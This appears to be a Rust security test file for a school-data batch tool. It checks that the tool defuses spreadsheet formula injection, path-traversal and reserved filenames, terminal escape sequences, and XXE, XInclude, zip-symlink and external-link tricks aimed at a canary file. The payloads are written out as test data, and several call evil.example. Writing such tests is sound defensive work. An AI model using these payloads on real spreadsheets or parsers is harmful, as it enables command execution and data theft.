//! Attacks through a file: texts that a spreadsheet would calculate, names that lead elsewhere, archives that reach outside, messages
//! that control a terminal. And what must never happen: other accounts read a report, or anything is sent anywhere.

use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fs;
use std::io::{Cursor, Write as _};
use std::path::Path;
use std::process::Command;

use cdip::catalogue::Code;
use cdip::decision::Outcome;
use cdip::intake::completions::Field;
use tempfile::TempDir;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use crate::batch_builder::{
    PARTICIPANTS, PROGRAMS, Row, TestBatch, clean_row, headings, rows_ended,
};
use crate::spreadsheets::{cells, parts, sheet, text_parts, with_parts, xlsx, zip_of};
use crate::support::{cdip, root, stderr, stdout, tree};

/// Texts that Excel, LibreOffice or another program calculates, opens or runs when they stand at the beginning of a cell.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/\"&A1,\"ok\")",
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=IMPORTXML(\"http://evil.example/\",\"//a\")",
    "=1+1,=2+2",
];

fn run(batch: &TestBatch) -> TempDir {
    let folder = batch.write_as_batch();
    let output = cdip(folder.path(), &["run", "batch", "--out", "report"]);
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "{}",
        stderr(&output)
    );
    folder
}

/// How the name of a file ends.
fn ending(path: &str) -> Option<&str> {
    path.rsplit_once('.').map(|(_, ending)| ending)
}

/// A batch in which every text that a stranger can choose is a formula.
fn batch_of_formulas() -> TestBatch {
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let evil = quoted(FORMULAS[0]);
    let programs = format!(
        "{PROGRAMS}{},{evil},internship,{evil},N,,\n",
        quoted("=IN2")
    );
    let participants =
        format!("{PARTICIPANTS}0040,,{evil},district,Y,N\n0050,,@SUM(1+1),district,Y,N\n");
    let mut rows: Vec<Row> = Vec::new();
    for (number, formula) in FORMULAS.iter().enumerate() {
        let row = clean_row()
            .with(Field::DistrictCode, "0040")
            .with(Field::Sasid, format!("200000000{number}"));
        rows.push(row.clone().with(Field::ProgramCode, "=IN2"));
        for field in [
            Field::Sasid,
            Field::Grade,
            Field::CompletionDate,
            Field::Lunch,
            Field::ProgramCode,
            Field::SchoolCode,
        ] {
            rows.push(row.clone().with(field, *formula));
        }
    }
    let mut table = vec![headings()];
    table[0].push(FORMULAS[1].to_string());
    table.extend(rows.iter().map(Row::texts));
    // The file and its sheet have such names, too; an entity's code can be in the folder's.
    let workbook = xlsx(&[
        sheet("=1+1", cells(&table)),
        sheet("@SUM(A1)", cells(&table)),
    ]);
    TestBatch::of(&[clean_row()])
        .programs(&programs)
        .participants(&participants)
        .file("submissions/0040/=cmd.xlsx", workbook)
        .file(
            "submissions/0050/+1+1.csv",
            headings().join(",") + ",=1+1\n" + &"=1+1,@x,+1,-1,=cmd,\t=1,-2,,,\n".repeat(3),
        )
        .file("submissions/0050/@note.docx", "x")
        .ledger(&format!("3000000000,{},{}", quoted("=IN2"), quoted("=1+1")))
        .resolutions(&format!(
            ",,,,submissions/0050/+1+1.csv,,2,deny,{evil},{evil},2024-09-01"
        ))
}

#[test]
fn no_text_of_an_input_begins_a_cell_that_a_spreadsheet_would_calculate() {
    let folder = run(&batch_of_formulas());
    let output = cdip(
        folder.path(),
        &[
            "check",
            "--batch",
            "batch",
            "--resolutions-out",
            "decide/decide.csv",
        ],
    );
    assert!(
        matches!(output.status.code(), Some(0 | 1)),
        "{}",
        stderr(&output)
    );
    let mut guarded = 0;
    for (path, bytes) in ["report", "decide"]
        .iter()
        .flat_map(|made| tree(&folder.path().join(made)))
        .filter(|(path, _)| ending(path) == Some("csv"))
    {
        for record in csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..])
            .records()
        {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{path}: {cell}"
                );
                guarded += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(guarded > 50, "the texts reached the files: {guarded}");
}

#[test]
fn what_the_apostrophe_protected_in_a_ledger_comes_back_as_it_was() {
    let programs = format!("{PROGRAMS}=IN2,=1+1,internship,=1+1,N,,\n");
    let row = clean_row().with(Field::ProgramCode, "=IN2");
    let folder = run(&TestBatch::of(&[row])
        .programs(&programs)
        .ledger("3000000000,=IN2,2022-23"));
    let next = fs::read_to_string(folder.path().join("report/prior-payments-next.csv")).unwrap();
    assert_eq!(next.matches(",'=IN2,").count(), 2, "{next}");
    // As if the year of this run were over: its own ledger would pay twice.
    let earlier = next.replace("2024-25", "2023-24");
    fs::write(folder.path().join("batch/prior-payments.csv"), earlier).unwrap();
    let output = cdip(folder.path(), &["run", "batch", "--out", "again"]);
    assert_eq!(output.status.code(), Some(0));
    let completions = fs::read_to_string(folder.path().join("again/completions.csv")).unwrap();
    let paid_before = |line: &&str| line.contains("'=IN2") && line.contains("N309");
    assert_eq!(completions.lines().filter(paid_before).count(), 1);
}

#[test]
fn workbooks_hold_the_texts_as_texts_and_nothing_that_reaches_out() {
    let folder = run(&batch_of_formulas());
    let marked = cdip(
        folder.path(),
        &[
            "check",
            "batch/submissions/0040/=cmd.xlsx",
            "--batch",
            "batch",
            "--mark",
            "marked.xlsx",
        ],
    );
    assert_eq!(marked.status.code(), Some(1), "{}", stderr(&marked));
    let mut workbooks: Vec<_> = tree(&folder.path().join("report"))
        .into_iter()
        .filter(|(path, _)| ending(path) == Some("xlsx"))
        .collect();
    workbooks.push((
        "marked.xlsx".to_string(),
        fs::read(folder.path().join("marked.xlsx")).unwrap(),
    ));
    assert!(workbooks.len() > 4);
    let mut texts = 0;
    for (path, bytes) in workbooks {
        for (part, text) in text_parts(&bytes) {
            assert!(
                !part.contains("externalLink")
                    && !part.contains("connections")
                    && ending(&part) != Some("bin"),
                "{path}: {part}"
            );
            assert!(
                !text.contains("TargetMode=\"External\"") && !text.contains("<ddeLink"),
                "{path}: {part} reaches out"
            );
            for formula in text
                .split("<f")
                .skip(1)
                .filter(|rest| rest.starts_with(['>', ' ']))
            {
                let formula = formula.split("</f>").next().unwrap();
                // A text that it compares with stands between quotes and calls nothing; a quote in it is doubled.
                assert_eq!(formula.matches('"').count() % 2, 0, "{path}: {formula}");
                let formula: String = formula.split('"').step_by(2).collect();
                for word in ["HYPERLINK", "WEBSERVICE", "IMPORTXML", "cmd|", "evil"] {
                    assert!(!formula.contains(word), "{path}: {part}: {formula}");
                }
            }
            texts += text.matches("=HYPERLINK(&quot;http").count()
                + text.matches("=HYPERLINK(\"http").count();
            let mut hyperlinks = text
                .split("<hyperlink ")
                .skip(1)
                .filter_map(|rest| rest.split_once('>'))
                .map(|(link, _)| link);
            assert!(
                hyperlinks.all(|link| link.contains("location=") && !link.contains("r:id=")),
                "{path}: {part}"
            );
        }
    }
    assert!(texts > 10, "the texts reached the workbooks: {texts}");
}

#[test]
fn whatever_an_entity_is_called_its_files_lie_in_the_report_under_a_name_of_its_own_that_windows_takes()
 {
    let names = [
        "../../../escape",
        "/etc/cron.d/job",
        "C:\\Windows\\system32",
        "CON",
        "NUL.txt",
        "COM1",
        "aux",
        "ends with points...",
        "ends with spaces   ",
        "Pen\u{303}asco",
        "Pe\u{f1}asco",
        "CASE",
        "case",
        "right\u{202e}gnol ot",
        "two\nlines",
        "bell\u{7}and\u{1b}[2Jclear",
        "a:b*c?d<e>f|g\"h",
        "~$lock",
        ".hidden",
        "-rf",
        "\u{1f393}",
        "",
    ];
    let long = "\u{10400}".repeat(300);
    let mut participants = PARTICIPANTS.to_string();
    let mut batch = TestBatch::of(&[clean_row()]);
    for (number, name) in names.iter().copied().chain([&*long]).enumerate() {
        let code = format!("{}", 5000 + number);
        participants.push_str(&format!(
            "{code},,\"{}\",district,Y,N\n",
            name.replace('"', "\"\"")
        ));
        let row = clean_row()
            .with(Field::DistrictCode, code.clone())
            .with(Field::Sasid, format!("10000{code}0"));
        batch = batch.rows(&format!("submissions/{code}.csv"), &[row]);
    }
    let folder = run(&batch.participants(&participants));
    assert_eq!(crate::support::names(folder.path()), ["batch", "report"]);
    let files = tree(&folder.path().join("report"));
    let made: Vec<&str> = files
        .iter()
        .filter_map(|(path, _)| path.strip_prefix("entities/"))
        .collect();
    assert_eq!(made.len(), names.len() + 2, "{made:?}");
    // By their codes alone, whatever a file system takes for the same letter.
    let codes: BTreeSet<&str> = made.iter().map(|name| &name[..5]).collect();
    assert_eq!(codes.len(), made.len());
    for name in made {
        let stem = name.strip_suffix(".xlsx").unwrap();
        assert!(
            stem[..4].bytes().all(|digit| digit.is_ascii_digit()) && stem.as_bytes()[4] == b'-',
            "{name}"
        );
        assert!(
            name.len() <= 255 && name.encode_utf16().count() <= 140,
            "{name}"
        );
        assert!(
            stem.chars()
                .all(|c| c.is_alphanumeric() || matches!(c, ' ' | '-' | '.')),
            "{name:?}"
        );
        assert!(!stem.ends_with([' ', '.']), "{name:?}");
    }
    // A line of the checksums is a hash, two spaces and a name; a line end or a backslash in it would need the escape of sha256sum.
    let sums = fs::read_to_string(folder.path().join("report/SHA256SUMS")).unwrap();
    assert_eq!(sums.lines().count(), files.len() - 2);
    assert!(
        sums.lines()
            .all(|line| line.as_bytes()[64..66] == *b"  "
                && !line.contains(['\\', '\u{202e}', '\r'])),
        "{sums}"
    );
}

/// Names of files that are not what they look like, or are not text.
#[cfg(target_os = "linux")]
const NAMES: [&[u8]; 6] = [
    b"0020 \x1b[2Jclear.csv",
    b"0020 two\nlines.csv",
    b"0020 \xe2\x80\xaevsc.csv",
    b"0020 \xff.csv",
    b"0020 \xfe.csv",
    b"0020 \xc2\x9b31m.csv",
];

#[test]
#[cfg(target_os = "linux")]
fn a_file_with_a_name_that_cannot_be_shown_is_refused_and_named_so_that_no_two_look_alike() {
    use std::os::unix::ffi::OsStrExt;
    let folder = crate::batch_builder::with_batch();
    for name in NAMES {
        fs::write(
            folder
                .path()
                .join("batch/submissions")
                .join(std::ffi::OsStr::from_bytes(name)),
            "x",
        )
        .unwrap();
    }
    let output = cdip(folder.path(), &["run", "batch"]);
    assert_eq!(output.status.code(), Some(1));
    let said = stderr(&output);
    for shown in [
        "0020 \\u001b[2Jclear",
        "0020 two\\u000alines",
        "0020 \\u202evsc",
        "0020 \\xff",
        "0020 \\xfe",
        "0020 \\u009b31m",
    ] {
        assert!(
            said.contains(&format!("  --> submissions/{shown}.csv\n")),
            "{shown}: {said}"
        );
    }
    assert_eq!(
        said.matches("its name holds a character that cannot be seen, or is not text")
            .count(),
        NAMES.len(),
        "{said}"
    );
    assert_eq!(
        said.matches("   = fix: Rename the file").count(),
        NAMES.len(),
        "{said}"
    );
    assert_eq!(
        cdip(
            folder.path(),
            &["verify", "reports/batch", "--batch", "batch"]
        )
        .status
        .code(),
        Some(0)
    );
}

#[test]
fn nothing_of_an_input_steers_a_terminal_or_passes_for_a_line_of_its_own() {
    let evil = "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{2028}end";
    let row = clean_row().with(Field::Sasid, "12").texts();
    let mut wrong = headings();
    wrong[2] = format!("SAS\u{1b}[31mID\nerror: {evil}");
    let hostile_sheet = with_parts(
        &xlsx(&[sheet("Sheet1", cells(&[headings(), row.clone()]))]),
        |name, part| match name {
            "xl/workbook.xml" => part.replace("Sheet1", "a&#10;error: all is lost&#x9b;&#x202e;"),
            _ => part,
        },
    );
    let batch = TestBatch::of(&[clean_row()])
        .participants(&PARTICIPANTS.replace("First District", &format!("\"First {evil}\"")))
        .programs(&PROGRAMS.replace("Welding", &format!("\"{evil}\"")))
        .file("submissions/0010 sheet.xlsx", hostile_sheet)
        .file(
            "submissions/0010 heading.xlsx",
            xlsx(&[sheet("S", cells(&[wrong, row]))]),
        )
        .resolutions(&format!(
            ",,,,\"submissions/{evil}.csv\",,2,deny,\"{evil}\",\"{evil}\",2024-09-01"
        ));
    let folder = batch.write_as_batch();
    let toml = folder.path().join("batch/batch.toml");
    let text = fs::read_to_string(&toml)
        .unwrap()
        .replace("label = \"test\"", "label = \"\\u001b[2J\\u202etest\"");
    fs::write(&toml, text).unwrap();
    let mut met = 0;
    for arguments in [
        &["run", "batch", "--out", "report"][..],
        &["check", "--batch", "batch", "--all"],
        &["check", "--batch", "batch", "--format", "json"],
        &["check", "--batch", "batch", "--format", "csv"],
        &["readings", "batch"],
        &["rehearse", "batch", "--rules", "2023-24"],
        &["explain", "report", "--participant", "0010"],
        &["explain", "report", "--row", "submissions/0010.csv!2"],
        &["publish", "report", "--preliminary"],
        &["verify", "report", "--batch", "batch"],
        &["rules", "show", "\u{1b}[2J"],
        &["run", "\u{1b}[2J\u{202e}"],
    ] {
        let output = cdip(folder.path(), arguments);
        for text in [stdout(&output), stderr(&output)] {
            let raw = |c: char| {
                (c.is_control() && !matches!(c, '\n' | '\t'))
                    || matches!(c, '\u{202e}' | '\u{2028}')
            };
            assert!(!text.contains(raw), "{arguments:?}: {text:?}");
            assert!(
                !text
                    .lines()
                    .any(|line| line.starts_with("error: all is lost")),
                "{arguments:?}: {text}"
            );
            met += usize::from(text.contains("\\u001b") || text.contains("\\u009b"));
            if arguments.last() == Some(&"json") && !text.is_empty() {
                assert!(
                    serde_json::from_str::<serde_json::Value>(&text).is_ok(),
                    "{text}"
                );
            }
        }
    }
    assert!(met >= 8, "the texts reached the messages: {met}");
}

// Archives that reach out.

/// Makes a workbook that is after a file.
type Make<'m> = &'m dyn Fn(&Path) -> Vec<u8>;

/// A secret file outside of the batch, and a workbook made to fetch it.
fn canary(make: impl Fn(&Path) -> Vec<u8>) -> (Vec<(String, Vec<u8>)>, Option<Code>) {
    let outside = TempDir::new().unwrap();
    let secret = outside.path().join("secret.csv");
    fs::write(&secret, "CANARY-7f3a").unwrap();
    let batch = TestBatch::of(&[clean_row().with(Field::Sasid, "1000000009")])
        .file("submissions/0020.xlsx", make(&secret));
    let calculation = batch.calculated();
    assert_eq!(rows_ended(&calculation)[0].1, Outcome::Paid);
    let refused = calculation
        .intake
        .files
        .iter()
        .find_map(|file| file.refused);
    let folder = run(&batch);
    assert_eq!(tree(outside.path()).len(), 1, "nothing was written outside");
    (tree(&folder.path().join("report")), refused)
}

#[test]
fn entities_inclusions_and_links_of_a_workbook_are_never_followed() {
    let workbook = || {
        xlsx(&[sheet(
            "Sheet1",
            cells(&[
                headings(),
                clean_row().with(Field::DistrictCode, "0020").texts(),
            ]),
        )])
    };
    let in_sheet = |declared: String, used: &str| {
        with_parts(&workbook(), |name, part| {
            if name == "xl/worksheets/sheet1.xml" {
                let body = part.replace(
                    "</sheetData>",
                    &format!("<row r=\"9\"><c r=\"A9\" t=\"inlineStr\"><is><t>{used}</t></is></c></row></sheetData>"),
                );
                match body.split_once("?>") {
                    Some((head, body)) => format!("{head}?>{declared}{body}"),
                    None => declared.clone() + &body,
                }
            } else {
                part
            }
        })
    };
    let symlink = |secret: &Path| {
        let mut out = ZipWriter::new(Cursor::new(Vec::new()));
        for (name, content) in parts(&workbook()) {
            if name == "xl/worksheets/sheet1.xml" {
                out.add_symlink(name, secret.to_string_lossy(), SimpleFileOptions::default())
                    .unwrap();
            } else {
                out.start_file(name, SimpleFileOptions::default()).unwrap();
                out.write_all(&content).unwrap();
            }
        }
        out.finish().unwrap().into_inner()
    };
    let outside = |secret: &Path| {
        let mut parts = parts(&workbook());
        let names = [
            "../../../../written.txt".to_string(),
            format!("{}-written", secret.display()),
            "C:\\written.txt".to_string(),
        ];
        parts.extend(names.map(|name| (name, b"written".to_vec())));
        zip_of(&parts)
    };
    let linked = |secret: &Path| {
        with_parts(&workbook(), |name, part| {
            match name {
            "xl/_rels/workbook.xml.rels" => part.replace(
                "</Relationships>",
                &format!(
                    "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" \
                     Target=\"file://{}\" TargetMode=\"External\"/></Relationships>",
                    secret.display()
                ),
            ),
            _ => part,
        }
        })
    };
    let made: [(&str, Option<Code>, Make<'_>); 7] = [
        ("an external entity", Some(Code::F101), &|secret| {
            in_sheet(
                format!(
                    "<!DOCTYPE x [<!ENTITY c SYSTEM \"file://{}\">]>",
                    secret.display()
                ),
                "&c;",
            )
        }),
        ("a parameter entity", Some(Code::F101), &|secret| {
            in_sheet(
                format!(
                    "<!DOCTYPE x [<!ENTITY % p SYSTEM \"file://{}\"> %p;]>",
                    secret.display()
                ),
                "x",
            )
        }),
        ("an external DTD", None, &|secret| {
            in_sheet(
                format!("<!DOCTYPE x SYSTEM \"file://{}\">", secret.display()),
                "x",
            )
        }),
        ("an inclusion", None, &|secret| {
            in_sheet(
                String::new(),
                &format!(
                    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://{}\" parse=\"text\"/>",
                    secret.display()
                ),
            )
        }),
        ("a link in the archive", Some(Code::F101), &symlink),
        ("names that lead out of the archive", None, &outside),
        ("an external link", None, &linked),
    ];
    for (what, wanted, make) in made {
        let (report, refused) = canary(make);
        for (path, bytes) in report {
            let texts = if ending(&path) == Some("xlsx") {
                text_parts(&bytes)
            } else {
                vec![(path.clone(), String::from_utf8_lossy(&bytes).into_owned())]
            };
            assert!(
                texts.iter().all(|(_, text)| !text.contains("CANARY")),
                "{what}: {path} holds the secret"
            );
        }
        assert_eq!(refused, wanted, "{what}");
    }
}

/// Read by the C library before it gives memory back.
#[cfg(target_os = "linux")]
const MEMORY_POLICY: &str = "/proc/sys/vm/overcommit_memory";

/// Needs strace; where there is none, the crates of the tree and the canaries above stand for it.
#[test]
#[cfg(target_os = "linux")]
fn a_run_opens_no_socket_and_no_file_outside_of_its_folders_and_the_system() {
    let folder = batch_of_formulas().write_as_batch();
    let traced = Command::new("strace")
        .args([
            "-f",
            "-qq",
            "-e",
            "trace=%network,openat,open,creat,execve",
            "-o",
            "trace",
        ])
        .arg(env!("CARGO_BIN_EXE_cdip"))
        .args(["run", "batch", "--out", "report"])
        .current_dir(folder.path())
        .env_remove("LD_LIBRARY_PATH")
        .output();
    let Some(output) = traced.ok().filter(|output| {
        matches!(output.status.code(), Some(0 | 1)) && folder.path().join("trace").is_file()
    }) else {
        crate::support::left_out("there is no strace, or it may not trace");
        return;
    };
    assert!(!output.stdout.is_empty());
    let trace = fs::read_to_string(folder.path().join("trace")).unwrap();
    assert!(trace.contains("openat("), "{trace}");
    let mut ran = 0;
    for line in trace.lines() {
        for call in ["socket(", "connect(", "sendto(", "bind("] {
            assert!(!line.contains(call), "{line}");
        }
        ran += usize::from(line.contains("execve("));
        let Some((_, path)) = line
            .split_once("open")
            .and_then(|(_, rest)| rest.split_once('"'))
        else {
            continue;
        };
        let path = path.split('"').next().unwrap();
        let own = !path.starts_with('/') || path.starts_with(&*folder.path().to_string_lossy());
        let system = [
            "/etc/ld.so",
            "/lib",
            "/usr/lib",
            "/proc/self",
            "/proc/stat",
            "/sys/",
            "/dev/",
            MEMORY_POLICY,
        ]
        .iter()
        .any(|place| path.starts_with(place));
        assert!(own || system, "{line}");
        assert!(!path.contains(".."), "{line}");
    }
    assert_eq!(ran, 1, "the program starts no other");
}

// Who may read what.

#[test]
#[cfg(unix)]
fn what_holds_rows_of_pupils_is_its_owners_alone_and_what_is_public_is_not() {
    use std::os::unix::fs::PermissionsExt;
    let folder =
        TestBatch::of(&[clean_row(), clean_row().with(Field::Sasid, "1")]).write_as_batch();
    let shell = |line: &str| {
        let line = format!("umask 000; {line}");
        let output = Command::new("sh")
            .args(["-c", &line])
            .env("CDIP", env!("CARGO_BIN_EXE_cdip"))
            .current_dir(folder.path())
            .output()
            .unwrap();
        assert!(
            matches!(output.status.code(), Some(0 | 1)),
            "{line}: {}",
            stderr(&output)
        );
    };
    let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    for line in [
        "\"$CDIP\" run batch --out private/report",
        "\"$CDIP\" run batch --out private/report",
        "\"$CDIP\" check batch/submissions/0010.csv --batch batch --mark private/marked.xlsx --resolutions-out private/decide.csv",
        "\"$CDIP\" preview batch/submissions/0010.csv --entity 0010 --batch batch --factors private/report --out private/previews",
        "\"$CDIP\" readings batch --out private/readings.xlsx",
        "\"$CDIP\" rehearse batch --rules 2023-24 --out private/rehearsal.xlsx",
        "\"$CDIP\" diff private/report private/report --xlsx private/changes.xlsx",
    ] {
        shell(line);
    }
    assert_eq!(mode(&folder.path().join("private")), 0o700);
    let mut looked = vec![folder.path().join("private")];
    let mut files = 0;
    while let Some(path) = looked.pop() {
        if path.is_dir() {
            assert_eq!(mode(&path), 0o700, "{}", path.display());
            looked.extend(
                fs::read_dir(path)
                    .unwrap()
                    .map(|entry| entry.unwrap().path()),
            );
        } else {
            assert_eq!(mode(&path), 0o600, "{}", path.display());
            files += 1;
        }
    }
    assert!(files >= 16, "{files}");
    shell("\"$CDIP\" sample --out enough --entities 30 --rows 3000");
    shell("\"$CDIP\" run enough --out private/enough");
    shell("\"$CDIP\" publish private/enough --preliminary --out public");
    shell("\"$CDIP\" sample --out sample --entities 2 --rows 20");
    shell(
        "\"$CDIP\" template --rules 2024-25 --programs batch/qualified-programs.csv --out template.xlsx",
    );
    for path in ["public/public.xlsx", "sample/batch.toml", "template.xlsx"] {
        assert_eq!(mode(&folder.path().join(path)), 0o666, "{path}");
    }
    // A mask that is stricter is kept: here not even the owner may write again.
    shell("umask 0277; \"$CDIP\" readings batch --out private/kept.xlsx");
    assert_eq!(mode(&folder.path().join("private/kept.xlsx")), 0o400);
}

// What the program is made of.

/// Packages that come with the program, by name: those that its own dependencies lead to in Cargo.lock, on whatever system and with
/// whatever feature.
fn shipped() -> BTreeSet<String> {
    let table = |path: &str| -> toml::Table {
        fs::read_to_string(root().join(path))
            .unwrap()
            .parse()
            .unwrap()
    };
    let (manifest, lock) = (table("Cargo.toml"), table("Cargo.lock"));
    let mut leads: BTreeMap<&str, Vec<&str>> = BTreeMap::new();
    for package in lock["package"].as_array().unwrap() {
        let to = package
            .get("dependencies")
            .and_then(toml::Value::as_array)
            .into_iter()
            .flatten();
        let to = to.map(|name| name.as_str().unwrap().split(' ').next().unwrap());
        leads
            .entry(package["name"].as_str().unwrap())
            .or_default()
            .extend(to);
    }
    let direct = |table: &toml::Value| {
        table["dependencies"]
            .as_table()
            .unwrap()
            .keys()
            .cloned()
            .collect::<Vec<_>>()
    };
    let on_unix = manifest["target"]
        .as_table()
        .unwrap()
        .values()
        .flat_map(direct);
    let mut open: VecDeque<String> = manifest["dependencies"]
        .as_table()
        .unwrap()
        .keys()
        .cloned()
        .chain(on_unix)
        .collect();
    let mut found = BTreeSet::new();
    while let Some(name) = open.pop_front() {
        if found.insert(name.clone()) {
            open.extend(leads[name.as_str()].iter().map(ToString::to_string));
        }
    }
    found
}

#[test]
fn the_packages_that_are_shipped_are_as_many_as_the_page_says() {
    let shipped = shipped();
    let page =
        fs::read_to_string(root().join("docs/decisions/0016-what-the-program-is-made-of.md"))
            .unwrap();
    let stated = page
        .split("**")
        .find_map(|words| words.strip_suffix(" packages"))
        .map(|count| count.parse().unwrap());
    assert_eq!(
        stated,
        Some(shipped.len()),
        "a dependency came or went: say in the page why\n{shipped:?}"
    );
}

#[test]
fn no_package_that_is_shipped_speaks_a_protocol_of_the_network() {
    let deny: toml::Table = fs::read_to_string(root().join("deny.toml"))
        .unwrap()
        .parse()
        .unwrap();
    let banned: BTreeSet<&str> = deny["bans"]["deny"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| entry["crate"].as_str().unwrap())
        .collect();
    assert!(banned.len() > 20);
    let shipped = shipped();
    assert!(shipped.contains("calamine") && shipped.contains("rust_xlsxwriter"));
    let found: Vec<&String> = shipped
        .iter()
        .filter(|name| banned.contains(name.as_str()))
        .collect();
    assert!(found.is_empty(), "{found:?}");
}
